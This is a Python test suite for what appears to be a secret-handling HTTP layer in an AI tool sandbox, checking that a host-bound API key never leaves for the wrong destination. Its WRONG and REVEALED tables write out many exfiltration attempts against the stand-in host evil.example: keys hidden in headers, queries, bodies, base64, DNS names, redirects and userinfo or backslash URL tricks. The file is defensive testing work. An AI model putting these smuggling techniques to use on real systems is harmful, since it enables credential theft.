"""A secret that is bound to a host is sent to wrong places: none of its bytes arrives there (attacks 80, 81 and 83).

The servers that must not see it are alive, have certificates for every name, and may be called by the tool.
"""

import base64
import itertools
import ssl
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import asynccontextmanager
from typing import Any
from urllib.parse import quote

import pytest
from msgspec import Struct

from mcpward import http
from mcpward.core.secret import Secret
from mcpward.sdk.errors import MissingSecret
from support.outside import Outside, certificate_for, naming, outside
from support.outside import http as answer
from support.tool_http import as_shop

#: Each test has a value of its own: a former one stays bound as long as any code holds it.
_number = itertools.count(1000)
NAMES = (
    "api.example",
    "x.api.example",
    "example",
    "api.example.evil.example",
    "evil.example",
    "api-example",
    "127.0.0.1",
)


class World(Struct):
    """``api`` is the host that the secret is bound to; ``evil`` listens at another port, ``plain`` without TLS."""

    api: Outside
    evil: Outside
    plain: Outside
    key: Secret

    @property
    def value(self) -> str:
        return self.key.reveal()

    def traces(self, data: bytes) -> list[str]:
        """The forms of the secret in what a server has seen."""
        return traces(self.value, data)

    def at(self, host: str, path: str = "/v1") -> str:
        """The API's own port, under any name."""
        return f"https://{host}:{self.api.port}{path}"

    @property
    def seen(self) -> bytes:
        return b"".join(request for one in (self.api, self.evil, self.plain) for request in one.requests)

    @property
    def connections(self) -> int:
        return self.api.connections + self.evil.connections + self.plain.connections


@pytest.fixture(scope="module")
def contexts(tmp_path_factory) -> tuple[ssl.SSLContext, ssl.SSLContext]:
    return certificate_for(NAMES[0], tmp_path_factory.mktemp("tls"), *NAMES[1:])


@asynccontextmanager
async def world(contexts: tuple[ssl.SSLContext, ssl.SSLContext], **options: Any) -> AsyncIterator[World]:
    served, trusted = contexts
    async with (
        outside(tls=served) as api,
        outside(tls=served) as evil,
        outside() as plain,
        as_shop(tls=trusted, **options),
    ):
        yield World(api, evil, plain, Secret(fresh(), "SHOP_KEY", hosts=[f"api.example:{api.port}"]))


def fresh() -> str:
    return f"sk_live_{next(_number)}Hxy+z/Canary~"


def traces(value: str, data: bytes) -> list[str]:
    raw = value.encode()
    forms = {
        "raw": raw, "quoted": quote(value, safe="").encode(), "base64": base64.b64encode(raw)[:20],
        "basic": base64.b64encode(b"user:" + raw)[8:24], "as user": base64.b64encode(raw + b":")[:20],
    }  # fmt: skip
    return [name for name, form in forms.items() if form in data]


Call = Callable[[World, Secret], Awaitable[http.Response]]


def bearer(secret: Secret) -> dict[str, Secret]:
    return {"Authorization": secret.template("Bearer {}")}


#: Each is refused before a connection is opened.
WRONG: dict[str, Call] = {
    "another host": lambda w, key: http.get(w.at("evil.example"), headers=bearer(key)),
    "a subdomain": lambda w, key: http.get(w.at("x.api.example"), headers=bearer(key)),
    "the parent": lambda w, key: http.get(w.at("example"), headers=bearer(key)),
    "a host that begins like it": lambda w, key: http.get(w.at("api.example.evil.example"), headers=bearer(key)),
    "a host that looks like it": lambda w, key: http.get(w.at("api-example"), headers=bearer(key)),
    "a dot at the end": lambda w, key: http.get(w.at("api.example."), headers=bearer(key)),
    "another port": lambda w, key: http.get(w.evil.url("/", "api.example", "https"), headers=bearer(key)),
    "the usual port": lambda w, key: http.get("https://api.example/v1", headers=bearer(key)),
    "its address": lambda w, key: http.get(w.at("127.0.0.1"), headers=bearer(key)),
    "its address in IPv6": lambda w, key: http.get(w.at("[::ffff:127.0.0.1]"), headers=bearer(key)),
    "its address as a number": lambda w, key: http.get(w.at("2130706433"), headers=bearer(key)),
    "http": lambda w, key: http.get(w.plain.url("/", "api.example"), headers=bearer(key)),
    "http at its port": lambda w, key: http.get(w.at("api.example").replace("https", "http"), headers=bearer(key)),
    "a user before another host": lambda w, key: http.get(
        f"https://api.example:{w.api.port}@evil.example:{w.evil.port}/", headers=bearer(key)
    ),
    "a backslash": lambda w, key: http.get(
        f"https://evil.example:{w.evil.port}\\@api.example:{w.api.port}/", headers=bearer(key)
    ),
    "a host in the query": lambda w, key: http.get(
        f"https://evil.example:{w.evil.port}?@api.example:{w.api.port}/", headers=bearer(key)
    ),
    "params": lambda w, key: http.get(w.at("api.example"), params={"key": key}),
    "params, several": lambda w, key: http.get(w.at("api.example"), params=[("a", "b"), ("key", key)]),
    "the query": lambda w, key: http.get(key.template(w.at("api.example", "/v1?key={}"))),
    "the path": lambda w, key: http.get(key.template(w.at("api.example", "/v1/{}/x"))),
    "the whole URL": lambda w, key: http.get(key),
    "json": lambda w, key: http.post(w.at("api.example"), json={"key": key}),
    "json, deep": lambda w, key: http.put(w.at("api.example"), json=[{"a": [{"b": key.template("<{}>")}]}]),
    "a form": lambda w, key: http.post(w.at("api.example"), data={"client_secret": key}),
    "the body": lambda w, key: http.patch(w.at("api.example"), content=key),
    "the body as data": lambda w, key: http.post(w.at("api.example"), data=key),
    "a header of another name": lambda w, key: http.get(w.at("api.example"), headers={"X-Debug": key}),
    "Cookie": lambda w, key: http.get(w.at("api.example"), headers={"Cookie": key.template("session={}")}),
    "User-Agent": lambda w, key: http.get(w.at("api.example"), headers={"User-Agent": key}),
    "Referer": lambda w, key: http.get(w.at("api.example"), headers={"Referer": key.template("https://a/{}")}),
    "Proxy-Authorization": lambda w, key: http.get(w.at("api.example"), headers={"Proxy-Authorization": key}),
    "basic, elsewhere": lambda w, key: http.get(w.at("evil.example"), auth=("user", key)),
    "basic, as the user": lambda w, key: http.get(w.at("evil.example"), auth=(key, "")),
    "two hosts, one right": lambda w, key: http.get(
        w.at("api.example"), headers=bearer(key) | {"X-Api-Key": Secret("another", "OTHER", hosts=["other.example"])}
    ),
}  # fmt: skip
#: The tool has called reveal(): now it is text like any other.
REVEALED: dict[str, Call] = {
    "a header": lambda w, key: http.get(w.at("evil.example"), headers={"Authorization": f"Bearer {key.reveal()}"}),
    "a header of another name": lambda w, key: http.get(w.at("api.example"), headers={"X-Debug": key.reveal()}),
    "the name of a header": lambda w, key: http.get(w.at("api.example"), headers={key.reveal(): "a"}),
    "basic": lambda w, key: http.get(w.at("evil.example"), auth=("user", key.reveal())),
    "basic by hand": lambda w, key: http.get(
        w.at("evil.example"),
        headers={"Authorization": "Basic " + base64.b64encode(f"me:{key.reveal()}".encode()).decode()},
    ),
    "the path": lambda w, key: http.get(w.at("evil.example", f"/{quote(key.reveal(), safe='')}")),
    "the query": lambda w, key: http.get(w.at("evil.example"), params={"q": f"x{key.reveal()}x"}),
    "the query, quoted twice": lambda w, key: http.get(w.at("evil.example"), params={"q": quote(key.reveal())}),
    "the query in base64": lambda w, key: http.get(
        w.at("evil.example"), params={"q": base64.urlsafe_b64encode(b"a" + key.reveal().encode()).decode()}
    ),
    "json": lambda w, key: http.post(w.at("evil.example"), json={"a": f"the key is {key.reveal()}."}),
    "a form": lambda w, key: http.post(w.at("evil.example"), data={"a": key.reveal()}),
    "bytes": lambda w, key: http.post(w.at("evil.example"), content=b"\0" + key.reveal().encode() + b"\0"),
    "base64 in lines": lambda w, key: http.post(
        w.at("evil.example"), content=base64.encodebytes(b"-----" * 9 + key.reveal().encode())
    ),
    "a body to its own host": lambda w, key: http.post(w.at("api.example"), data={"client_secret": key.reveal()}),
    "a query of its own host": lambda w, key: http.get(w.at("api.example"), params={"key": key.reveal()}),
}  # fmt: skip


@pytest.mark.parametrize("place", WRONG)
async def test_a_bound_secret_is_not_sent_to_a_wrong_place(contexts, place: str) -> None:
    async with world(contexts) as here:
        with pytest.raises(http.HttpRefused) as refused:
            await WRONG[place](here, here.key)
        assert (here.connections, here.seen) == (0, b"")
        assert not here.traces(str(refused.value).encode())


@pytest.mark.parametrize("place", WRONG)
async def test_every_wrong_place_is_reached_by_a_secret_that_is_not_bound(contexts, place: str) -> None:
    """Else the test above would pass for another reason."""
    async with world(contexts, timeout_s=2.0) as here:
        free = Secret(fresh(), "FREE")
        assert await outcome(WRONG[place](here, free)) in ELSEWHERE.get(place, {""})
        assert traces(free.reveal(), here.seen) or place in ELSEWHERE


async def outcome(response: Awaitable[http.Response]) -> str:
    try:
        await response
    except (http.HttpRefused, http.HttpFailed) as error:
        return error.why
    return ""


#: Places that no request reaches, with a secret or without: the URL is none, or no server is there.
ELSEWHERE = {
    "a dot at the end": {"host-refused"}, "its address as a number": {"host-refused"},
    "its address in IPv6": {"address-refused"}, "a user before another host": {"userinfo-refused"},
    "a backslash": {"url-malformed"}, "the whole URL": {"url-malformed"}, "Proxy-Authorization": {"header-refused"},
    "the usual port": {"unreachable"}, "http at its port": {"unreachable", "protocol-broken"},
    "two hosts, one right": {"secret-bound"},
}  # fmt: skip


@pytest.mark.parametrize("place", REVEALED)
async def test_a_revealed_value_of_a_bound_secret_is_found_in_what_leaves(contexts, place: str) -> None:
    async with world(contexts) as here:
        name = Secret(f"sk_live_{next(_number)}name", "NAME", hosts=here.key.hosts)
        with pytest.raises(http.HttpRefused) as refused:
            await REVEALED[place](here, name if place == "the name of a header" else here.key)
        assert refused.value.why == "secret-bound"
        assert (here.connections, here.seen) == (0, b"")


@pytest.mark.parametrize("place", [place for place in REVEALED if "own host" not in place])
async def test_a_revealed_value_of_a_free_secret_leaves(contexts, place: str) -> None:
    async with world(contexts) as here:
        free = Secret(f"sk_live_{next(_number)}name" if place == "the name of a header" else fresh(), "FREE")
        assert (await REVEALED[place](here, free)).status == 200


@pytest.mark.parametrize("place", ["method", "name", "bare", "lines"])
async def test_a_revealed_value_is_found_where_few_would_look(contexts, place: str) -> None:
    """The method, a header's name in lower case, the value without the blanks around it, its lines with CRLF."""
    async with world(contexts) as here:
        odd = Secret(f" {fresh()}\nSECOND-LINE ", "ODD", hosts=["api.example"])
        word = Secret(f"WORD{next(_number)}XYZ", "WORD", hosts=["api.example"])
        spelt = {"bare": odd.reveal().strip(), "lines": odd.reveal().replace("\n", "\r\n")}
        called = {
            "method": lambda: http.request(word.reveal(), here.at("evil.example")),
            "name": lambda: http.get(here.at("evil.example"), headers={f"X-{word.reveal()}": "1"}),
        }.get(place, lambda: http.post(here.at("evil.example"), content=spelt[place].encode()))
        with pytest.raises(http.HttpRefused):
            await called()
        assert (here.connections, here.seen) == (0, b"")


async def test_a_secret_that_was_removed_is_not_sent_as_an_empty_credential(contexts) -> None:
    gone = Secret("", "GONE")
    async with world(contexts) as here:
        for given in ({"headers": bearer(gone)}, {"auth": ("me", gone)}, {"params": {"token": gone}}):
            with pytest.raises(MissingSecret, match="GONE"):
                await http.get(here.at("api.example"), **given)
        assert here.connections == 0


@pytest.mark.parametrize("spell", [str, quote, lambda value: base64.b64encode(value.encode()).decode()])
async def test_a_value_beyond_ascii_is_found_as_well(contexts, spell) -> None:
    async with world(contexts) as here:
        key = Secret(f"grüße-an-alle-{next(_number)}", "GREETING", hosts=here.key.hosts)
        with pytest.raises(http.HttpRefused):
            await http.post(here.at("evil.example"), json={"a": spell(key.reveal())})
        assert here.connections == 0


async def test_a_value_is_found_at_the_end_of_a_large_body(contexts) -> None:
    async with world(contexts) as here:
        for large in (b"x" * 2_000_000, b"a-b_" * 100_000, b"%41" * 100_000):
            with pytest.raises(http.HttpRefused):
                await http.post(here.at("evil.example"), content=large + here.value.encode())
        assert here.connections == 0


@pytest.mark.parametrize("place", ["another host", "params", "json", "a form", "Cookie", "a header of another name"])
async def test_a_value_too_short_to_be_searched_for_is_bound_as_a_secret(contexts, place: str) -> None:
    async with world(contexts) as here:
        with pytest.raises(http.HttpRefused) as refused:
            await WRONG[place](here, Secret("4711", "PIN", hosts=here.key.hosts))
        assert refused.value.why == "secret-bound"
        assert here.connections == 0


async def test_a_name_to_look_up_is_a_way_out_as_well(contexts) -> None:
    asked: list[str] = []

    async def lookup(host: str, _port: int) -> list[str]:
        asked.append(host)
        return ["127.0.0.1"]

    async with world(contexts, lookup=lookup) as here:
        key = Secret("sk-Live-51HxyzCanary", "KEY", hosts=["api.example"])
        for host in (f"{key.reveal()}.evil.example", f"{key.reveal()[:9]}.{key.reveal()[9:]}.evil.example"):
            with pytest.raises(http.HttpRefused) as refused:
                await http.get(here.at(host))
            assert refused.value.why == "secret-bound"
        for place in ("another host", "params", "json"):
            with pytest.raises(http.HttpRefused):
                await WRONG[place](here, here.key)
    assert asked == []


@pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
@pytest.mark.parametrize("where", ["another host", "a subdomain", "another port", "http", "its address"])
async def test_attack_80_a_redirect_takes_no_credential_along(contexts, status: int, where: str) -> None:
    async with world(contexts) as here:
        target = {
            "another host": here.at("evil.example", "/there"), "a subdomain": here.at("x.api.example", "/there"),
            "another port": here.evil.url("/there", "api.example", "https"),
            "http": here.plain.url("/there", "api.example"), "its address": here.at("127.0.0.1", "/there"),
        }[where]  # fmt: skip
        here.api.answer = leading(target, status)
        key, free = here.key, Secret("free-Canary-0815", "FREE")
        for headers in (bearer(key), {"X-Api-Key": key}, {"X-Other": free}, {"Private-Token": "free-Canary-0815"}):
            for method in ("GET", "POST"):
                response = await http.request(
                    method,
                    here.at("api.example"),
                    headers=headers,
                    follow_redirects=True,
                )
                assert response.status == 200
        later = [one for o in (here.api, here.evil, here.plain) for one in o.requests if b"/there" in one.split()[1]]
        assert len(later) == 8
        assert not [one for one in later if here.traces(one) or b"anary-0815" in one]


def leading(target: str, status: int = 302) -> Any:
    """Answer that everything but the target is there."""

    async def reply(request: bytes, writer: Any) -> None:
        is_there = request.split()[1].startswith(b"/there")
        writer.write(answer() if is_there else answer(status=status, location=target))
        await writer.drain()

    return reply


async def test_attack_80_a_redirect_within_the_origin_keeps_the_secret(contexts) -> None:
    async with world(contexts) as here:
        here.api.answer = leading("/there")
        assert (await http.get(here.at("api.example"), headers=bearer(here.key), follow_redirects=True)).status == 200
        assert [here.traces(one) for one in here.api.requests] == [["raw"]] * 2


async def test_attack_80_a_redirect_takes_no_body_with_a_secret_along(contexts) -> None:
    async with world(contexts) as here:
        here.api.answer = leading(here.evil.url("/there", "evil.example", "https"), 307)
        with pytest.raises(http.HttpRefused) as refused:
            await http.post(here.at("api.example"), json={"key": Secret(fresh(), "FREE")}, follow_redirects=True)
        assert refused.value.why == "secret-bound"
        assert here.evil.connections == 0


async def test_attack_80_a_redirect_cannot_echo_the_secret_in_its_target(contexts) -> None:
    async with world(contexts) as here:
        here.api.answer = leading(here.evil.url(f"/there?key={quote(here.value, safe='')}", "evil.example", "https"))
        with pytest.raises(http.HttpRefused):
            await http.get(here.at("api.example"), follow_redirects=True)
        assert here.evil.connections == 0


async def test_attack_80_a_name_that_moves_does_not_take_the_secret_along(contexts) -> None:
    served, trusted = contexts
    async with (
        naming({"api.example": [["127.0.0.1"], ["127.0.0.2"]]}) as (names, look_up),
        outside(answer(connection="close"), tls=served) as api,
        outside(tls=served, host="127.0.0.2", port=api.port) as canary,
        as_shop(tls=trusted, allow=("127.0.0.1/32",), lookup=look_up),
    ):
        key = Secret(fresh(), "SHOP_KEY", hosts=[f"api.example:{api.port}"])
        url = api.url("/", "api.example", "https")
        assert (await http.get(url, headers=bearer(key))).status == 200
        assert names.asked["api.example"] == 1
        with pytest.raises(http.HttpRefused) as refused:
            await http.get(url, headers=bearer(key))
        assert refused.value.why == "address-refused"
        assert canary.connections == 0


@pytest.mark.parametrize("name", ["Authorization", "X-API-Key", "api-key", "X-Auth-Token", "X-Shop-Key"])
async def test_a_bound_secret_goes_to_its_host_in_a_header_for_credentials(contexts, name: str) -> None:
    async with world(contexts) as here:
        value = fresh()
        key = Secret(value, "SHOP_KEY", hosts=here.key.hosts, header="X-Shop-Key", is_http_only=True)
        assert (await http.get(here.at("API.Example"), headers={name: key})).status == 200
        assert f"{name.lower()}: {value}\r\n".encode() in here.api.requests[0]


async def test_a_bound_secret_is_a_user_or_a_password_for_its_host(contexts) -> None:
    async with world(contexts) as here:
        await http.get(here.at("api.example"), auth=("user", here.key))
        await http.get(here.at("api.example"), auth=(here.key, ""))
        assert [here.traces(one) for one in here.api.requests] == [["basic"], ["base64", "as user"]]


async def test_a_renewed_value_leaves_and_the_former_one_stays_bound(contexts) -> None:
    async with world(contexts) as here:
        key = here.key
        former, headers = key.reveal(), bearer(key)
        key._renew("sk_live_renewed")
        await http.get(here.at("api.example"), headers=headers)
        assert b"Bearer sk_live_renewed\r\n" in here.api.requests[0]
        with pytest.raises(http.HttpRefused):
            await http.post(here.at("evil.example"), content=former)
        with pytest.raises(http.HttpRefused):
            await http.post(here.at("evil.example"), content="sk_live_renewed")
